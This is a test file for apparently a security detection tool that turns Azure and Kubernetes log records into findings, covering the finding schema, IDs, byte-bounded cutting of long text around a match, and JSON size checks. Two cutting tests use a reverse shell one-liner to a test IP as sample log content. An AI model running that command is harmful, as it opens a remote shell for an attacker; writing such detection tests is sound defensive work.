import { describe, expect, it } from 'vitest';
import { findingId } from '../../src/findings/finding-id.js';
import { cutAround } from '../../src/findings/bound/cut-text.js';
import { jsonBytes, jsonTextBytes } from '../../src/findings/bound/json-size.js';
import { FINDING_SCHEMA } from '../../src/findings/schema.js';

describe('finding schema', () => {
  it('has the columns the table, the DCR and the code rely on, with Log Analytics types', () => {
    const byName = new Map(FINDING_SCHEMA.columns.map((c) => [c.name, c.type]));
    for (const [name, type] of Object.entries({
      TimeGenerated: 'datetime',
      DetectedAt: 'datetime',
      EventTime: 'datetime',
      EventTimeSource: 'string',
      FindingId: 'string',
      RuleId: 'string',
      RuleTitle: 'string',
      Severity: 'string',
      Tactics: 'dynamic',
      Techniques: 'dynamic',
      Source: 'string',
      SourceRecordId: 'string',
      Operation: 'string',
      ResultType: 'string',
      ClusterResourceId: 'string',
      ClusterName: 'string',
      ClusterKind: 'string',
      SubscriptionId: 'string',
      ResourceGroup: 'string',
      Namespace: 'string',
      WorkloadKind: 'string',
      WorkloadName: 'string',
      Caller: 'string',
      CallerIpAddress: 'string',
      Indicators: 'dynamic',
      Enrichment: 'dynamic',
      RawRecord: 'string',
      RawRecordTruncated: 'boolean',
      Truncated: 'dynamic',
    })) {
      expect(byName.get(name), name).toBe(type);
    }
    expect(new Set(FINDING_SCHEMA.columns.map((c) => c.name)).size).toBe(FINDING_SCHEMA.columns.length);
    expect(FINDING_SCHEMA.table).toMatch(/_CL$/);
    expect(FINDING_SCHEMA.stream).toBe(`Custom-${FINDING_SCHEMA.table.replace(/_CL$/, '')}`);
    // Log Analytics reserves these names in custom tables.
    for (const reserved of ['TenantId', 'Type', '_ResourceId', 'id'])
      expect(byName.has(reserved)).toBe(false);
  });
});

describe('findingId', () => {
  it('is deterministic and separates rule, source and operation', () => {
    const a = findingId('rule-1', 'AzureActivity', 'corr|OP|/sub');
    expect(findingId('RULE-1', 'AzureActivity', 'corr|OP|/sub')).toBe(a);
    expect(findingId('rule-2', 'AzureActivity', 'corr|OP|/sub')).not.toBe(a);
    expect(findingId('rule-1', 'KubeAudit', 'corr|OP|/sub')).not.toBe(a);
    expect(findingId('rule-1', 'AzureActivity', 'corr2|OP|/sub')).not.toBe(a);
  });
});

describe('cutAround', () => {
  it('keeps short text whole and cuts long text on a character boundary, saying how much', () => {
    expect(cutAround('short', [], 100)).toBe('short');
    const cut = cutAround('€'.repeat(100), [], 80);
    expect(Buffer.byteLength(JSON.stringify(cut))).toBeLessThanOrEqual(80);
    expect(cut).not.toContain('\uFFFD');
    expect(cut).toMatch(/^€+…\[\d+ bytes cut\]…$/);
    expect(cut.match(/€/g)?.length ?? 0).toBe(100 - Number(/(\d+) bytes/.exec(cut)?.[1]) / 3);
  });

  it('keeps the match in the middle of the padding, with the bytes cut on each side', () => {
    const text = `${'A'.repeat(812_345)}bash -i >& /dev/tcp/203.0.113.7/4444 0>&1${'B'.repeat(1000)}`;
    const start = text.indexOf('bash');
    const cut = cutAround(text, [[start, start + 36]], 1024);
    expect(cut).toContain('bash -i >& /dev/tcp/203.0.113.7/4444');
    expect(cut).toMatch(/^…\[81\d,\d{3} bytes cut\]…A+bash/);
    expect(Buffer.byteLength(JSON.stringify(cut))).toBeLessThanOrEqual(1024);
  });

  it('shares context in bytes: controls before the match (6 bytes each as JSON) do not starve the text after it', () => {
    const shell = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
    const text = `${'\u0001'.repeat(25)}; ${shell}; ${'\u0001'.repeat(34)}`;
    const start = text.indexOf('bash');
    const cut = cutAround(text, [[start, start + 'bash -i'.length]], 256);
    expect(cut).toContain(shell);
    expect(Buffer.byteLength(JSON.stringify(cut))).toBeLessThanOrEqual(256);
    // Each side got about the same number of bytes: the cheap side keeps more characters.
    const [before = '', after = ''] = cut.split('bash -i');
    const controls = before.replace(/…\[[\d,]+ bytes cut\]…/g, '').replace(/; $/, '');
    expect(controls).toBe('\u0001'.repeat(controls.length));
    expect(controls.length).toBeGreaterThanOrEqual(5);
    expect(controls.length).toBeLessThan(25);
    expect(after.length).toBeGreaterThan(shell.length);
  });
});

describe('JSON sizes, walked without serialising', () => {
  it('agree with JSON.stringify, once and twice, on quotes, escapes, controls and surrogates', () => {
    const value = {
      'k"\\': ['a"b\\c', 'é€𝄞', '\n\t\u0001', '\ud834', 1.5, true, null],
      nested: { s: '{"log":"x\\"y"}' },
    };
    expect(jsonBytes(value)).toBe(Buffer.byteLength(JSON.stringify(value)));
    expect(jsonTextBytes(value)).toBe(Buffer.byteLength(JSON.stringify(JSON.stringify(value))));
  });
});
